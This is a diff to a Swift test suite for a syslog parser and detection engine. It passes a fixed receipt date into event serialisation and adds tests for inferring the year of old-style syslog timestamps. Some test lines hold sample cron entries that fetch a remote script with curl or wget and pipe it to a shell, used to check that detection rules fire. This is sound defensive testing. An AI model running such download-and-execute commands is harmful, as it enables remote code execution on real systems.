@@ -19,6 +19,8 @@ struct SyslogMessageTests {
     }
 
     static let bom: [UInt8] = [0xEF, 0xBB, 0xBF]
+    /// 2026-11-19T00:00:00Z.
+    static let received = Date(timeIntervalSince1970: 1_795_046_400)
 
     static let cases: [Case] = [
         Case(
@@ -98,14 +100,14 @@ struct SyslogMessageTests {
             Array("<14>1 - dc01 winlogbeat - - - ".utf8) + Self.bom + Array(body.utf8)
         )
         .get()
-        #expect(message.eventJSON() == body)
+        #expect(message.eventJSON(receivedAt: Self.received) == body)
     }
 
     @Test func aTextBodyBecomesAnEventWithTheHeaderFields() throws {
         let message = try SyslogMessage.parse(
             Array(#"<165>1 2026-11-20T09:00:00Z h a 1 m [x@1 k="v\"q"] say "hi"\#t{not json"#.utf8)
         ).get()
-        let json = message.eventJSON()
+        let json = message.eventJSON(receivedAt: Self.received)
         #expect(
             json == #"{"timestamp":"2026-11-20T09:00:00Z","host":"h","service":"syslog","program":"a","pid":1,"#
                 + #""msgid":"m","facility":"local4","severity":"notice","structured_data":{"x@1":{"k":"v\"q"}},"#
@@ -115,7 +117,7 @@ struct SyslogMessageTests {
 
     @Test func controlCharactersAndInvalidUTF8StillGiveValidJSON() throws {
         let message = try SyslogMessage.parse(Array("<13>Oct 11 22:14:15 host app: a\u{1}b".utf8) + [0xFF]).get()
-        let event = jsonObject(message.eventJSON())
+        let event = jsonObject(message.eventJSON(receivedAt: Self.received))
         #expect(event["message"] as? String == "a\u{1}b\u{FFFD}")
         #expect(event["host"] as? String == "host")
     }
@@ -130,7 +132,7 @@ struct SyslogMessageTests {
         let engine = DetectionEngine(rules: parsed.rules, pipeline: try Pipeline.builtinWindows())
         let worker = engine.makeWorker()
         func fires(_ line: String) throws -> Bool {
-            var event = try SyslogMessage.parse(Array(line.utf8)).get().eventJSON()
+            var event = try SyslogMessage.parse(Array(line.utf8)).get().eventJSON(receivedAt: Self.received)
             var fired: [Int] = []
             try event.withUTF8 { try worker.match($0, into: &fired) }
             return !fired.isEmpty
@@ -138,5 +140,19 @@ struct SyslogMessageTests {
         #expect(try fires("<78>Nov 20 09:00:00 db01 CRON[4242]: (root) CMD (curl -s http://203.0.113.9/u.sh | bash)"))
         #expect(try fires("<78>1 2026-11-20T09:00:00Z db01 cron 4242 - - (root) CMD (wget -qO- http://x/u | sh)"))
         #expect(try !fires("<78>Nov 20 09:00:00 db01 CRON[4242]: (root) CMD (curl -s http://x/u | sha256sum)"))
+    }
+
+    @Test(
+        arguments: [
+            ("Nov 20 09:00:00", 1_795_046_400, "2026-11-20T09:00:00"),
+            ("Nov  5 01:02:03", 1_795_046_400, "2026-11-05T01:02:03"),
+            // Read on New Year's Day 2027: December is last year's.
+            ("Dec 31 23:59:59", 1_798_761_600, "2026-12-31T23:59:59"),
+        ] as [(String, Int, String)])
+    func anRFC3164TimestampGetsTheYearItWasMostLikelyWrittenIn(_ stamp: String, received: Int, expected: String) throws
+    {
+        let message = try SyslogMessage.parse(Array("<13>\(stamp) host app: x".utf8)).get()
+        let event = jsonObject(message.eventJSON(receivedAt: Date(timeIntervalSince1970: Double(received))))
+        #expect(event["timestamp"] as? String == expected)
     }
 }
